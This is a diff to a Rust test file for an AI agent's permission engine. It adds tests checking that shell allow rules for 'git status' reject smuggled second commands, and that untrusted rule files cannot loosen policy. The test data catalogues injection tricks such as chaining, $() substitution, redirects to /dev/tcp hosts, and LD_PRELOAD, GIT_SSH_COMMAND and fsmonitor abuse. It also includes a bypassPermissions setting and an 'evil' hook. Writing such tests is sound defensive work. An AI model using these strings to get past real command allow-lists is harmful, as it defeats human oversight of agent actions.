@@ -37,6 +37,140 @@ fn a_denied_command_is_never_allowed_whatever_starts_it() {
     assert!(wrong.is_empty(), "{wrong:#?}");
 }
 
+#[test]
+fn an_allowed_command_carries_nothing_else_with_it() {
+    let wrong: Vec<&str> = [
+        "git status; x",
+        "git status\nx",
+        "git status & x",
+        "git status | x",
+        "git status $(x)",
+        "git status \"`x`\"",
+        "git status <(x)",
+        "git status > f",
+        "git status >> f",
+        "git status &> f",
+        "git status >| f",
+        "git status >&f",
+        "git status <> f",
+        "git status 2> f",
+        "git status < f",
+        "git status > /dev/tcp/x.org/80",
+        "git status <<END\n$(x)\nEND",
+        "git status ${y:-$(x)}",
+        "git status ${y:=$(x)}",
+        "git status $((a[$(x)]))",
+        "GIT_SSH_COMMAND=x git status",
+        "PATH=. git status",
+        "LD_PRELOAD=x git status",
+        "PATH=.; git status",
+        "export PATH=.; git status",
+        "alias git=x; git status",
+        "git() { x; }; git status",
+        "cd /; git status",
+        "./git status",
+        "/tmp/git status",
+        "git -c core.fsmonitor=x status",
+        "git -C /x status",
+        "'git status' y",
+        "env git status",
+        "sudo git status",
+        "xargs -0 git status",
+        "time -o f git status",
+        "timeout $x git status",
+        "$x git status",
+        "git $x",
+        "git s*",
+        "if git status; then x; fi",
+        "coproc git status",
+        "git status \u{a0}; x",
+        "git status \r x",
+        "exec git status; x",
+        "watch git status",
+        "trap x EXIT; git status",
+        "{ git status; } > f",
+        "(git status) > f",
+        "for i in $(x); do git status; done",
+        "case $(x) in *) git status;; esac",
+        "[[ $(x) ]] && git status",
+    ]
+    .into_iter()
+    .filter(|text| of_shell(&[(Decision::Allow, "Bash(git status *)")], text) == Decision::Allow)
+    .collect();
+    assert!(wrong.is_empty(), "{wrong:#?}");
+    for fine in ["git status", "git status -s", "LANG=C git status 2>&1", "timeout 5 git status"] {
+        let decision = of_shell(&[(Decision::Allow, "Bash(git status *)")], fine);
+        assert_eq!(decision, Decision::Allow, "{fine}");
+    }
+}
+
+#[test]
+fn odd_files_of_rules_are_read_or_refused_and_never_half_read() {
+    use crate::policy::{
+        files::{File, Form, Setup, Where},
+        rule::Layer,
+    };
+    let read = |text: &str, form: Form, trusted: bool| {
+        let file = File {
+            layer: Layer::Project,
+            form,
+            path: "/w/haft.toml".into(),
+            anchor: "/w".into(),
+            text: text.to_owned(),
+        };
+        Setup::read(&[file], &Where { trusted, ..Where::default() })
+    };
+    let rule = "[[rule]]\nmatch = \"Bash(rm *)\"\ndecision = \"deny\"\n";
+    for good in [rule.to_owned(), rule.replace('\n', "\r\n"), format!("\u{feff}{rule}")] {
+        let found = read(&good, Form::Toml, false).map(|setup| setup.rules.len());
+        assert_eq!(found.ok(), Some(1), "{good:?}");
+    }
+    for bad in [
+        format!("{rule}\0"),
+        format!("{rule}decision = \"allow\"\n"),
+        format!("{rule}Decision = \"allow\"\n"),
+        format!("{rule}priority = 99999999999999999999\n"),
+        format!("{rule}priority = 3000000000\n"),
+        format!("{rule}priority = 1.5\n"),
+        format!("{rule}enabled = \"false\"\n"),
+        format!("{rule}enabled = 0\n"),
+        format!("{rule}except = []\n"),
+        format!("{rule}except = [1]\n"),
+        format!("{rule}test.allow = [\"ls\"]\n"),
+        "[rule]\nmatch = \"x\"\ndecision = \"deny\"\n".to_owned(),
+        "rule = [{ match = \"x\", decision = \"Deny\" }]\n".to_owned(),
+        "rule = [{ match = \"\", decision = \"deny\" }]\n".to_owned(),
+        "rule = [{ match = [[\"x\"]], decision = \"deny\" }]\n".to_owned(),
+        "defaults.mode = \"Plan\"\n".to_owned(),
+        "defaults.mode = [\"plan\"]\n".to_owned(),
+    ] {
+        assert!(read(&bad, Form::Toml, true).is_err(), "{bad}");
+    }
+    for bad in [
+        r#"{"permissions": {"deny": "Bash(rm *)"}}"#,
+        r#"{"permissions": {"deny": [1]}}"#,
+        r#"{"permissions": {"deny": ["Bash(rm"]}}"#,
+        r#"{"permissions": {"deny": ["Bash(rm *)"], "deny": []}}"#,
+        r#"{"permissions": {"deny": ["Bash(rm *)"]}, "permissions": {}}"#,
+        r#"{"permissions": {"deny": ["Bash(rm *)"]}} x"#,
+        r#"{"permissions": []}"#,
+        r#"[]"#,
+    ] {
+        assert!(read(bad, Form::Settings, true).is_err(), "{bad}");
+    }
+    // What a folder that nobody trusts brings along may only be stricter.
+    let loose = "defaults.mode = \"bypassPermissions\"\nworkspace.roots = [\"/\"]\n\
+        rule = [{ match = \"*\", decision = \"allow\" }, \
+        { match = \"x\", decision = \"ask\", rewrite = { a = 1 } }]\n\
+        [[hooks.PreToolUse]]\ncommand = \"evil\"\n[tool.x.args]\ny = \"url\"\n";
+    let setup = read(loose, Form::Toml, false).unwrap();
+    assert_eq!(setup.ground.mode, Mode::Default);
+    assert!(setup.ground.roots.is_empty() && setup.ground.about.is_empty());
+    assert!(setup.hooks.is_empty());
+    let rules: Vec<_> = setup.rules.iter().map(|r| (&r.decision, r.rewrite.len())).collect();
+    assert_eq!(rules, [(&Decision::Ask, 0)]);
+}
+
 /// A disk with a few links on it.
 #[derive(Debug)]
 struct Linked;
@@ -224,6 +358,10 @@ fn pattern_text() -> impl Strategy<Value = String> {
             "source=a",
             "source=a__b",
             "arg.to=x",
+            "arg.to=1",
+            "arg.to=null",
+            "arg.to.a=x",
+            "arg.to=x|1",
             "read_only",
             "tool=read_file|shell",
             "tool=mcp__a",
@@ -261,7 +399,16 @@ fn made() -> impl Strategy<Value = Made> {
         path().prop_map(|path| Made::Of("read_file", json!({"path": path}))),
         path().prop_map(|path| Made::Of("edit_file", json!({"path": path}))),
         host().prop_map(|host| Made::Of("fetch_url", json!({"url": format!("https://{host}/p")}))),
-        Just(Made::Of("mail_send", json!({"to": "x"}))),
+        prop::sample::select(vec![
+            json!({"to": "x"}),
+            json!({"to": ["y", "x"]}),
+            json!({"to": {"a": "x"}}),
+            json!({"to": 1.0}),
+            json!({"to": null}),
+            json!({"to.a": "y", "to": {"a": "x"}}),
+            json!({}),
+        ])
+        .prop_map(|arguments| Made::Of("mail_send", arguments)),
         remote().prop_map(|(source, tool)| Made::Remote(source, tool)),
     ]
 }
